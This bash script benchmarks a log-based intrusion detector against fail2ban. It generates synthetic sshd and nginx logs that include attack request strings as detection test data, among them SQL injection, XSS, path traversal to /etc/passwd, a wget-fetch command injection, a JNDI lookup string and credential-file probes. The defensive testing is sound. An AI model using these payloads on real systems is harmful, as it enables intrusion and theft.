#!/usr/bin/env bash
# Detection throughput and findings, side by side with fail2ban (docs/detection.md, docs/benchmarks.md).
#
#   bash bench/detect-vs-fail2ban.sh [lines]        (default 1000000 per log)
#
# Generates, with a fixed seed, an sshd auth.log and an nginx access.log of N lines each in the
# Debian 12 formats (rsyslog's RFC 3339 timestamps; nginx's combined format), mixing normal
# traffic (public-key logins, sessions, page and asset requests from many clients) with attacks
# (password guessing, invalid users, pre-authentication probes; scanners, SQL injection, XSS, path
# traversal, command injection, bad bots). Then runs on the same files, one after the other:
#   - fail2ban-regex (Debian's fail2ban) with its sshd filter and its nginx-botsearch filter,
#     with `-o ip` (one line per failure found), timed, distinct addresses counted;
#   - `vigie-agent detect` with the built-in rules (all 19, every one over every line), through the
#     packaged wrapper (the agent's JVM options: C1 compiler only, 64 MiB heap), then with
#     `--only http-scanner`, the rule that covers nginx-botsearch's ground.
# Each run is timed by /usr/bin/time: wall time and CPU time (the machine may be shared), peak RSS.
# Needs /usr/bin/fail2ban-regex and python3. Run as a regular user.
set -euo pipefail
ROOT="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
LINES="${1:-1000000}"
WORK="$(mktemp -d)"
trap 'rm -rf "$WORK"' EXIT
cd "$ROOT"
if [ ! -f agent/target/vigie-agent.jar ]; then
    ./mvnw -B -q -pl protocol,agent -am package -DskipTests
fi

python3 - "$WORK" "$LINES" <<'PY'
import random, sys
from datetime import datetime, timedelta, timezone
work, n = sys.argv[1], int(sys.argv[2])
rnd = random.Random(20261126)
start = datetime(2026, 11, 26, 0, 0, 0, tzinfo=timezone.utc)
def ip(pool_base, count):
    k = rnd.randrange(count)
    return f"{pool_base}.{k // 250 + 1}.{k % 250 + 1}"
users = ["root", "admin", "test", "user", "oracle", "postgres", "ubuntu", "git", "ftpuser", "pi", "support", "guest"]
with open(f"{work}/auth.log", "w") as f:
    t = start
    for i in range(n):
        t += timedelta(microseconds=rnd.randrange(1, 80000))
        ts = t.strftime("%Y-%m-%dT%H:%M:%S.%f") + "+00:00"
        pid = rnd.randrange(1000, 99999)
        r = rnd.random()
        if r < 0.30:
            a = ip("203.0", 4000)
            u = rnd.choice(users)
            kind = rnd.randrange(6)
            if kind == 0:
                msg = f"sshd[{pid}]: Failed password for {u} from {a} port {rnd.randrange(1024, 65535)} ssh2"
            elif kind == 1:
                msg = f"sshd[{pid}]: Failed password for invalid user {u}{rnd.randrange(100)} from {a} port {rnd.randrange(1024, 65535)} ssh2"
            elif kind == 2:
                msg = f"sshd[{pid}]: Invalid user {u}{rnd.randrange(100)} from {a} port {rnd.randrange(1024, 65535)}"
            elif kind == 3:
                msg = f"sshd[{pid}]: Connection closed by authenticating user {u} {a} port {rnd.randrange(1024, 65535)} [preauth]"
            elif kind == 4:
                msg = f"sshd[{pid}]: Received disconnect from {a} port {rnd.randrange(1024, 65535)}:11: Bye Bye [preauth]"
            else:
                msg = f"sshd[{pid}]: Disconnected from invalid user {u} {a} port {rnd.randrange(1024, 65535)} [preauth]"
        else:
            a = ip("198.51", 300)
            kind = rnd.randrange(6)
            if kind == 0:
                msg = f"sshd[{pid}]: Accepted publickey for deploy from {a} port {rnd.randrange(1024, 65535)} ssh2: ED25519 SHA256:Xk2v9jQm0cL4pW7sT1uYb3nR6eA8dF5gH0iJ2kL4mN6"
            elif kind == 1:
                msg = f"sshd[{pid}]: pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)"
            elif kind == 2:
                msg = f"sshd[{pid}]: pam_unix(sshd:session): session closed for user deploy"
            elif kind == 3:
                msg = f"CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"
            elif kind == 4:
                msg = f"systemd-logind[612]: New session {rnd.randrange(1, 9999)} of user deploy."
            else:
                msg = f"sudo[{pid}]:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl status nginx"
        f.write(f"{ts} web1 {msg}\n")

probes = ["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/index.php", "/pma/", "/myadmin/", "/admin/phpMyAdmin/",
          "/webmail/", "/roundcube/", "/cgi-bin/luci", "/mysqladmin/", "/wp-admin.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
          "/.aws/credentials", "/xmlrpc.php", "/HNAP1"]
attacks = ["/index.php?id=1%27%20or%20%271%27=%271", "/search?q=1+union+select+user,password+from+users--",
           "/item?id=5;sleep(5)", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", "/page?name=%22%3E%3Csvg/onload=alert(1)%3E",
           "/download?file=../../../../etc/passwd", "/static/..%2f..%2f..%2fetc/passwd",
           "/cgi-bin/test.cgi?cmd=;wget%20http://198.18.0.1/x.sh", "/?x=${jndi:ldap://198.18.0.1/a}", "/api?host=127.0.0.1|id"]
pages = ["/", "/about", "/blog/2026/11/hello-world", "/products?page=2", "/contact", "/api/v1/items?limit=20", "/login", "/search?q=winter+boots"]
assets = ["/static/app.css", "/static/app.js", "/img/logo.png", "/favicon.ico", "/fonts/inter.woff2"]
agents = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
          "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
          "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1"]
bots = ["sqlmap/1.8.11#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", "Mozilla/5.0 zgrab/0.x", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"]
with open(f"{work}/access.log", "w") as f:
    t = start
    for i in range(n):
        t += timedelta(microseconds=rnd.randrange(1, 30000))
        ts = t.strftime("%d/%b/%Y:%H:%M:%S +0000")
        r = rnd.random()
        if r < 0.12:
            a, ua = ip("45.155", 3000), rnd.choice(agents + bots)
            kind = rnd.random()
            if kind < 0.6:
                url, status = rnd.choice(probes), 404
            else:
                url, status = rnd.choice(attacks), rnd.choice([400, 403, 404, 200])
            method = "GET" if rnd.random() < 0.8 else "POST"
        else:
            a, ua = ip("198.51", 20000), rnd.choice(agents)
            url = rnd.choice(pages) if rnd.random() < 0.4 else rnd.choice(assets)
            status = 200 if rnd.random() < 0.93 else rnd.choice([304, 404, 301])
            method = "GET" if rnd.random() < 0.95 else "POST"
        size = rnd.randrange(150, 90000) if status == 200 else rnd.randrange(0, 600)
        ref = "-" if rnd.random() < 0.5 else "https://www.example.com/"
        f.write(f'{a} - - [{ts}] "{method} {url} HTTP/1.1" {status} {size} "{ref}" "{ua}"\n')
PY

# Runs a command under /usr/bin/time; prints wall and CPU time, lines/s by each, and peak memory.
measure() {  # $1 label, $2 output file, then the command
    local label="$1" out="$2"
    shift 2
    /usr/bin/time -f "%e %U %S %M" -o "$WORK/time" "$@" >"$out" 2>"$out.err" || true
    read -r wall user sys rss <"$WORK/time"
    python3 -c 'import sys; l,w,c,r=int(sys.argv[2]),float(sys.argv[3]),float(sys.argv[4])+float(sys.argv[5]),int(sys.argv[6]); print(f"{sys.argv[1]:<44} wall {w:6.1f} s = {l/w:>9,.0f} lines/s | cpu {c:6.1f} s = {l/c:>9,.0f} lines/s | peak RSS {r/1024:4.0f} MiB")' \
        "$label" "$LINES" "$wall" "$user" "$sys" "$rss"
}
fail2ban() {  # $1 log, $2 filter
    measure "fail2ban-regex $2" "$WORK/f2b-$2.out" fail2ban-regex -o ip "$1" "/etc/fail2ban/filter.d/$2.conf"
    echo "  distinct addresses found: $(grep -E '^[0-9A-Fa-f.:]+$' "$WORK/f2b-$2.out" | sort -u | wc -l)"
}
vigie() {  # $1 log, then options of detect
    local log="$1"
    shift
    measure "vigie-agent detect $*" "$WORK/vigie.out" env VIGIE_AGENT_HOME="$ROOT/agent/target" \
        sh deploy/agent/vigie-agent detect "$@" "$log"
    grep -E '^(all rules|[0-9]+ lines in)' "$WORK/vigie.out" | sed 's/^/  /'
}
echo "== sshd auth.log, $LINES lines"
fail2ban "$WORK/auth.log" sshd
vigie "$WORK/auth.log"
echo "== nginx access.log, $LINES lines"
fail2ban "$WORK/access.log" nginx-botsearch
vigie "$WORK/access.log"
vigie "$WORK/access.log" --only http-scanner
echo "(vigie: 'all rules' = distinct addresses in events, then distinct addresses banned (scenarios triggered);"
echo " its own lines/s excludes the start of the JVM; fail2ban: addresses of the lines it counts as failures)"
